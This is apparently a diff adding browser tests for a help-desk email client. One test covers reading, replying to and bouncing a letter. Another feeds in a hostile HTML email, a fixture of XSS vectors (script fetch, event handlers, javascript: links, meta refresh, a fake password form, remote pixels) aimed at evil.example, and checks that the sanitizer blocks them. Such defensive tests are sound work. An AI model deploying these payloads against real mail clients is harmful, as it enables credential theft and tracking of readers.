@@ -1,0 +1,303 @@
+/** Letters, from a real mailbox to the desk and back, in a real browser; and a letter that attacks whoever opens it. */
+import assert from 'node:assert/strict'
+import { mkdirSync } from 'node:fs'
+import path from 'node:path'
+import { test, type TestContext } from 'node:test'
+import type { Page } from 'playwright-core'
+import { browsers, program, signIn, type Complaints } from '../browser.ts'
+import { openDovecot, type Dovecot } from '../dovecot.ts'
+import { eventually } from '../harness.ts'
+import { faultsOf } from '../look.ts'
+import { outgoingServer } from '../mail-house.ts'
+
+const hour = 3_600_000
+const patienceMs = 20_000
+/** Where the pictures go, for whoever wants to look at the screens themselves. */
+const pictures = process.env['PEAKEND_PICTURES']
+
+/** One red dot. */
+const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg=='
+
+const htmlLetter = (id: string, html: string, text: string, head: string[] = []) =>
+  [
+    'From: Eva Ruiz <eva@example.org>',
+    'To: Brisa <help@shop.example>',
+    'Cc: Jon Lind <jon@example.org>',
+    'Subject: The kettle whistles at night',
+    `Message-ID: <${id}@example.org>`,
+    'MIME-Version: 1.0',
+    ...head,
+    'Content-Type: multipart/mixed; boundary=m',
+    '',
+    '--m',
+    'Content-Type: multipart/related; boundary=r',
+    '',
+    '--r',
+    'Content-Type: multipart/alternative; boundary=a',
+    '',
+    '--a',
+    'Content-Type: text/plain; charset=utf-8',
+    '',
+    text,
+    '',
+    'On 3 May 2026 Brisa wrote:',
+    '> Your kettle is on its way.',
+    '',
+    '--a',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    html,
+    '--a--',
+    '--r',
+    'Content-Type: image/png',
+    'Content-ID: <dot@example.org>',
+    'Content-Disposition: inline; filename=dot.png',
+    'Content-Transfer-Encoding: base64',
+    '',
+    dot,
+    '--r--',
+    '--m',
+    'Content-Type: application/pdf; name=receipt.pdf',
+    'Content-Disposition: attachment; filename=receipt.pdf',
+    'Content-Transfer-Encoding: base64',
+    '',
+    Buffer.from('%PDF-1.4 a receipt').toString('base64'),
+    '--m--',
+    '',
+  ].join('\r\n')
+
+const bounceOf = (messageId: string) =>
+  [
+    'From: Mail Delivery <mailer-daemon@example.org>',
+    'To: help@shop.example',
+    'Subject: Undelivered',
+    'Message-ID: <bounce@example.org>',
+    'MIME-Version: 1.0',
+    'Content-Type: multipart/report; report-type=delivery-status; boundary=r',
+    '',
+    '--r',
+    'Content-Type: message/delivery-status',
+    '',
+    'Final-Recipient: rfc822; jon@example.org',
+    'Action: failed',
+    'Status: 5.1.1',
+    'Diagnostic-Code: smtp; 550 no such user',
+    '',
+    '--r',
+    'Content-Type: message/rfc822',
+    '',
+    `Message-ID: ${messageId}`,
+    '',
+    '--r--',
+    '',
+  ].join('\r\n')
+
+/** A workspace with a mailbox on a real server, and Ana who answers there. */
+const setUp = async (t: TestContext, dovecot: Dovecot) => {
+  const house = await program(t)
+  const { call } = house
+  const out = await outgoingServer(t)
+  const ana = await house.person('Ana Ruiz', 'agent')
+  const queue = await call<{ id: string }>('POST', '/api/queues', {
+    name: 'Letters',
+    target: { withinMs: hour, sharePct: 80 },
+    timetable: null,
+    messageAnswerMs: 4 * hour,
+  })
+  await call('PUT', `/api/queues/${queue.id}/members`, { personIds: [ana.id] })
+  await call('PUT', '/api/timetable', { timetable: 'always' })
+  await call('POST', '/api/answers', {
+    shortcut: 'seal',
+    title: { en: 'New seal', es: 'Junta nueva' },
+    text: { en: 'Dear {customer}, a new seal is in the post.', es: 'Hola, {customer}: va una junta nueva.' },
+    subject: { en: 'Your new seal', es: 'Tu junta nueva' },
+    needId: null,
+    queueIds: [],
+    cues: [],
+  })
+  const server = (port: number) => ({ host: '127.0.0.1', port, security: 'none', user: 'help' })
+  await call('POST', '/api/mailboxes', {
+    address: 'help@shop.example',
+    name: 'Brisa',
+    queueId: queue.id,
+    incoming: server(dovecot.port),
+    outgoing: server(out.port),
+    signIn: 'password',
+    begin: 'everything',
+    password: 'right',
+    signature: { en: 'Brisa, every day from 9 to 18', es: 'Brisa, cada día de 9 a 18' },
+  })
+  return { ...house, out, ana, queueId: queue.id }
+}
+
+const beAvailable = async (page: Page): Promise<void> => {
+  await page.getByRole('button', { name: /^You are / }).click()
+  await page.getByRole('menuitem', { name: 'Available' }).click()
+  await page.getByRole('button', { name: /^You are available/i }).waitFor()
+}
+const answers = async (page: Page): Promise<void> => {
+  const offer = page.getByRole('article', { name: /^Offered to you/ }).first()
+  await offer.getByRole('button', { name: /^Answer/ }).click()
+  await page.getByRole('log').getByRole('article').first().waitFor()
+}
+
+const told = async (error: unknown, of: { page: Page; complaints: Complaints }): Promise<Error> => {
+  const screen = await of.page.locator('body').ariaSnapshot({ timeout: 2000 }).catch(String)
+  return new Error(`${String(error)}\n${of.page.url()}\n${of.complaints.lines.join('\n')}\n${screen.slice(0, 5000)}`)
+}
+
+/** Both themes and both widths in two looks. */
+const look = async (page: Page, name: string): Promise<void> => {
+  const faults: string[] = []
+  for (const [theme, width, height] of [
+    ['light', 1440, 900],
+    ['dark', 390, 844],
+  ] as const) {
+    await page.emulateMedia({ colorScheme: theme, reducedMotion: 'reduce' })
+    await page.setViewportSize({ width, height })
+    if (pictures) {
+      mkdirSync(pictures, { recursive: true })
+      await page.screenshot({ path: path.join(pictures, `letters-${name}-${theme}-${width}.png`), caret: 'hide' })
+    }
+    faults.push(...(await faultsOf(page)).map((one) => `${name} ${theme} ${width}: ${one}`))
+  }
+  await page.emulateMedia({ colorScheme: 'light' })
+  await page.setViewportSize({ width: 1440, height: 900 })
+  assert.deepEqual(faults, [])
+}
+
+test('a letter is read, answered, undone once, sent, and comes back', { timeout: 240_000 }, async (t) => {
+  const dovecot = await openDovecot(t)
+  if (!dovecot) return
+  const house = await setUp(t, dovecot)
+  const someone = await browsers(t)
+  const ana = await someone('Ana')
+  const { page } = ana
+  try {
+    await signIn(page, house.url, house.ana.email)
+    await beAvailable(page)
+    const html =
+      '<p>The <b>kettle</b> whistles.</p><img src="cid:dot@example.org" alt="the dot" width="40" height="40">'
+    await dovecot.deliver('help', htmlLetter('first', html, 'The kettle whistles at night. Can you help?'))
+    await answers(page)
+    const log = page.getByRole('log')
+    const first = log.getByRole('article', { name: 'Eva Ruiz' })
+    await log.getByRole('heading', { name: 'The kettle whistles at night' }).waitFor()
+    await first.getByText('The kettle whistles at night. Can you help?').waitFor()
+    await first.getByText('a claim').waitFor()
+    await first.getByRole('link', { name: 'Download receipt.pdf' }).waitFor()
+    assert.equal(await first.getByText('Your kettle is on its way.').count(), 0)
+    await first.getByRole('button', { name: 'Show what was quoted' }).click()
+    await first.getByText('Your kettle is on its way.').waitFor()
+    await first.getByRole('button', { name: 'Show as sent' }).click()
+    const inside = page.frameLocator('iframe')
+    await inside.getByAltText('the dot').waitFor()
+    assert.match((await inside.getByAltText('the dot').getAttribute('src')) ?? '', /^data:image\/png/)
+    await look(page, 'read')
+
+    // reply to all with a template and a copy, by keys
+    await page.getByRole('log').focus()
+    await page.keyboard.press('a')
+    const text = page.getByRole('textbox', { name: 'Text of the letter' })
+    await text.waitFor()
+    await page.getByRole('button', { name: 'Remove jon@example.org' }).waitFor()
+    await page.getByRole('textbox', { name: 'Cc', exact: true }).fill('ben@example.org,')
+    await text.click()
+    await text.pressSequentially('/seal')
+    await page.getByRole('option', { name: /New seal/ }).waitFor()
+    await page.keyboard.press('Enter')
+    await page.keyboard.type('\n\nIt takes **two days**.')
+    await page.getByText(/^Kept /).waitFor()
+    await look(page, 'write')
+    // it is there on another device
+    await page.reload()
+    await text.waitFor()
+    assert.match(await text.inputValue(), /^Dear Eva, a new seal is in the post\.\n\nIt takes \*\*two days\*\*\.$/)
+    await text.focus()
+    await page.keyboard.press('Control+Enter')
+    await page.getByRole('timer').waitFor()
+    await page.getByRole('button', { name: /^Undo/ }).click()
+    await text.waitFor()
+    assert.equal(house.out.sent.length, 0)
+    await page.keyboard.press('Control+Enter')
+    await page.getByRole('timer').waitFor()
+    const [sent] = await eventually(async () => (house.out.sent.length > 0 ? house.out.sent : undefined), patienceMs)
+    assert.deepEqual(sent?.to, ['eva@example.org', 'jon@example.org', 'ben@example.org'])
+    assert.match(sent.message, /<b>two days<\/b>/)
+    assert.match(sent.message, /It takes two days\./)
+    assert.match(sent.message, /Brisa, every day from 9 to 18/)
+    assert.equal(house.out.sent.length, 1)
+
+    const messageId = /^Message-ID: (.*)$/im.exec(sent.message)?.[1]?.trim() ?? ''
+    await dovecot.deliver('help', bounceOf(messageId))
+    await page
+      .getByRole('alert')
+      .getByText(/550 no such user/)
+      .waitFor()
+    await page.getByRole('button', { name: 'Send again' }).waitFor()
+    await look(page, 'failed')
+    assert.deepEqual(ana.complaints.lines, [])
+  } catch (error) {
+    throw await told(error, ana)
+  }
+})
+
+const attack = `<html><head><style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}</style>
+<meta http-equiv="refresh" content="0;url=https://evil.example/go"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/c.css"></head>
+<body onload="parent.evil=1" style="background:url(https://evil.example/d.png)">
+<script>parent.evil=1;fetch('https://evil.example/s')</script><img src=x onerror="parent.evil=1"><img src="https://evil.example/pixel.png" alt="remote">
+<svg onload="parent.evil=1"><script>parent.evil=1</script></svg><iframe src="https://evil.example/f"></iframe><object data="https://evil.example/o"></object>
+<form action="https://evil.example/form"><input name=password><button>Sign in</button></form>
+<div style="position:fixed;inset:0;z-index:9;background-image:url(https://evil.example/e.png)">covering</div>
+<a href="javascript:parent.evil=1">press me</a><video src="https://evil.example/v" autoplay></video><p>harmless words</p></body></html>`
+
+test('a letter that attacks shows nothing that acts, and nothing leaves the page', { timeout: 120_000 }, async (t) => {
+  const dovecot = await openDovecot(t)
+  if (!dovecot) return
+  const house = await setUp(t, dovecot)
+  const someone = await browsers(t)
+  const ana = await someone('Ana')
+  const { page } = ana
+  const elsewhere: string[] = []
+  page.on('request', (request) => {
+    const { hostname, protocol } = new URL(request.url())
+    if (/^https?:$/.test(protocol) && hostname !== '127.0.0.1') elsewhere.push(request.url())
+  })
+  // loopback only: what is asked of elsewhere is answered by nobody
+  await page.context().route(/evil\.example/, (route) => route.abort())
+  try {
+    await signIn(page, house.url, house.ana.email)
+    await beAvailable(page)
+    await dovecot.deliver('help', htmlLetter('attack', attack, 'harmless words'))
+    await answers(page)
+    await page.getByRole('button', { name: 'Show as sent' }).click()
+    const inside = page.frameLocator('iframe')
+    await inside.getByText('harmless words').waitFor()
+    const found = await page.evaluate<string[]>(`(() => {
+      const { contentDocument: d } = document.querySelector('iframe')
+      const bad = [...d.body.querySelectorAll('script,form,input,button,iframe,object,embed,svg,video,link,meta,base,style')].map((one) => one.tagName)
+      for (const one of d.body.querySelectorAll('*')) {
+        for (const { name, value } of one.attributes) if (/^on/i.test(name) || /javascript:|url\\(/i.test(value)) bad.push(name + '=' + value)
+        if (getComputedStyle(one).position === 'fixed') bad.push('fixed')
+      }
+      if (window.evil) bad.push('a script ran')
+      return bad
+    })()`)
+    assert.deepEqual(found, [])
+    assert.equal(
+      await page.locator('iframe').getAttribute('sandbox'),
+      'allow-same-origin allow-popups allow-popups-to-escape-sandbox',
+    )
+    await page.getByText(/picture.? on (another|other) server/).waitFor()
+    assert.deepEqual(elsewhere, [])
+    // whoever asks for them gets pictures and nothing else; a claim is not trusted for good
+    assert.equal(await page.getByRole('button', { name: /^Always for/ }).count(), 0)
+    ana.complaints.allow(/evil\.example|Failed to load/)
+    await page.getByRole('button', { name: 'Show them once' }).click()
+    await eventually(async () => elsewhere.length > 0 || undefined, patienceMs)
+    assert.deepEqual([...new Set(elsewhere)], ['https://evil.example/pixel.png'])
+    assert.deepEqual(ana.complaints.lines, [])
+  } catch (error) {
+    throw await told(error, ana)
+  }
+})
